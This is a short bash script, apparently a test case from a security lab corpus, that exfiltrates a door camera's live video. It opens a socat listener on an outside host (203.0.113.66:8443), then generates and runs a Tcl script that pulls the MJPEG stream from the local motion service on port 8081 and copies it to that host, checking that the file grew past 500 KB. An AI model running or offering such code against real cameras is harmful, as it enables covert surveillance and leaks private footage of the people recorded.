#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=loopback-relay,live-relay half=tune tool=tclsh camera=10.20.0.13 far=out ready=out:8443 seconds=45 parts=dns,camera-door,recorder-door,nas,outside-web
# A script in Tcl asks motion on loopback for the live picture of door and copies it to a port outside.
if [ "$1" = out ]; then mkdir -p "$LAB/away"; exec timeout 70 socat -u TCP-LISTEN:8443,bind=203.0.113.66,reuseaddr "CREATE:$LAB/away/see.mjpeg"; fi
# shellcheck disable=SC2016 # for Tcl
printf '%s\n' 'set in [socket 127.0.0.1 8081]; set out [socket 203.0.113.66 8443]
foreach s [list $in $out] { fconfigure $s -translation binary -buffering none }
puts -nonewline $in "GET / HTTP/1.0\r\n\r\n"
fcopy $in $out -command {set done}
vwait done' >"$LAB/see.tcl"
timeout 42 tclsh "$LAB/see.tcl"; rm -f "$LAB/see.tcl"; [ "$(stat -c %s "$LAB/away/see.mjpeg")" -gt 500000 ]
